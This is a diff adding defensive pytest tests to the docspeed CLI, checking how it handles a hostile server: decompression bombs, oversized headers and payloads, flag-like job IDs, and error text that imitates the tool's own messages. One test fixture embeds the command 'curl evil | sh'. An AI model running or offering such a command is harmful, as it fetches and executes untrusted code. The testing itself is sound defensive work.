@@ -14,6 +14,8 @@ from typing import Any
 import httpx
 import pytest
 
+from docspeed_cli import payload
+from docspeed_cli.connections import unpacked
 from tests.real.machine import Machine
 from tests.service import POLL, RESULT, SUBMIT, UPLOAD, Call, Reply, Service
 from tests.stage import Stage
@@ -132,6 +134,62 @@ def test_what_is_read_here_is_not_read_without_end(stage: Stage, service: Servic
     assert endless.taken < 64 << 20
 
 
+def test_a_job_object_may_repeat_the_request(stage: Stage, service: Service) -> None:
+    repeated = {"schema": {"fields": [{"key": f"field_{number}"} for number in range(10_000)]}}
+    service.then(SUBMIT, Reply.of(202, {"job_id": "job_7", "status": "queued", "request": repeated}))
+    ran = stage.run(*PARSE)
+    assert (ran.code, json.loads(ran.out)["job_id"], stage.states()) == (0, "job_7", ["running"])
+
+
+def test_words_of_the_server_are_not_taken_for_the_program_s(stage: Stage, service: Service) -> None:
+    said = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
+    service.then(SUBMIT, Reply.of(422, {"detail": said}))
+    for terminal in (False, True):
+        ran = stage.run(*PARSE, "--fresh", terminal=terminal)
+        ours = [line for line in ran.err.splitlines() if line.startswith(("hint:", "error:", "note:"))]
+        assert ran.code in (0, 7) and len(ours) <= 1, ran.err
+
+
+@pytest.mark.parametrize("job_id", ["-", "--help", "@last", "@1"])
+def test_an_id_that_commands_would_take_for_something_else_is_named_by_its_row(
+    stage: Stage, service: Service, job_id: str
+) -> None:
+    service.has(job_id, *["queued"] * 100)
+    service.then(SUBMIT, Reply.of(202, {"job_id": job_id, "status": "queued"}))
+    ran = stage.run(*PARSE, "--wait", "--timeout", "1")
+    assert ran.err.splitlines()[-1] == "hint: docspeed jobs wait @1"
+
+
+def test_a_request_id_is_an_id_and_no_book(stage: Stage, service: Service) -> None:
+    service.then(SUBMIT, Reply.of(422, {"detail": "no"}, X_Request_Id="r" * 60_000))
+    assert len(stage.run(*PARSE).err) < 1000
+
+
+@pytest.mark.parametrize("zone", ["GMT", "+999999999999999"])
+def test_a_clock_that_no_calendar_has_is_no_crash(stage: Stage, service: Service, zone: str) -> None:
+    service.always(
+        POLL, Reply.of(404, {"detail": "x"}, Date=f"Mon, 99999999999999999999 Jan 2024 00:00:00 {zone}")
+    )
+    ran = stage.run("doctor")
+    assert (ran.code, "unexpected" in ran.err) == (0, False)
+
+
+def test_more_values_than_the_memory_holds_are_not_converted(
+    stage: Stage, service: Service, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(payload, "MANIFOLD", 200_000)
+    many = b'{"pages": [' + b"{}," * 150_000 + b"1]}"
+    service.payload = lambda operation, body: many
+    ran = stage.run(*PARSE, "--wait", "--format", "markdown")
+    assert (ran.code, ran.out, "too many to be converted" in ran.err) == (1, "", True)
+    assert stage.run(*PARSE, "--wait").raw == many + b"\n"
+
+
+def test_what_grows_where_it_is_laid_out_is_bounded_too() -> None:
+    shown, whole = payload.indented("[" * 1_000_000, 100_000)
+    assert (len(shown) < 101_000, whole) == (True, False)
+
+
 # -- packed
 
 
@@ -150,6 +208,35 @@ def _answering(stage: Stage, service: Service, body: bytes) -> Stage:
         return httpx.Response(reply.status, content=reply.body)
 
     return replace(stage, transport=lambda base_url: httpx.MockTransport(handler))
+
+
+@pytest.mark.parametrize("ending", ["/upload", "/parse", "/jobs/job_1", "/result"])
+@pytest.mark.parametrize("how", ["gzip, gzip", "deflate", "br"])
+def test_what_is_packed_in_a_way_not_asked_for_is_not_unpacked(
+    stage: Stage, service: Service, ending: str, how: str
+) -> None:
+    """Packed twice, ten kilobytes are gigabytes."""
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
+        if not request.url.path.endswith(ending):
+            return httpx.Response(reply.status, content=reply.body)
+        stream = httpx.ByteStream(gzip.compress(gzip.compress(reply.body)))
+        return httpx.Response(200, headers={"Content-Encoding": how}, stream=stream)
+
+    ran = replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run(
+        "parse", stage.document("a.pdf"), "--wait", "--timeout", "40"
+    )
+    assert (ran.code, ran.out) == (8 if ending == "/jobs/job_1" else 9, "")
+    assert "packed in a way not asked for" in ran.err
+    assert ending != "/parse" or stage.states() == ["unknown"]
+
+
+def test_a_packed_answer_comes_in_bounded_pieces() -> None:
+    body = gzip.compress(b" " * 50_000_000)
+    response = httpx.Response(200, headers={"Content-Encoding": "gzip"}, stream=httpx.ByteStream(body))
+    sizes = [len(piece) for piece in unpacked(response)]
+    assert (sum(sizes), max(sizes) <= 1 << 20) == (50_000_000, True)
 
 
 CONTENT: Any = json.dumps({"pages": [{"text": "x" * 3_000_000}]}).encode()
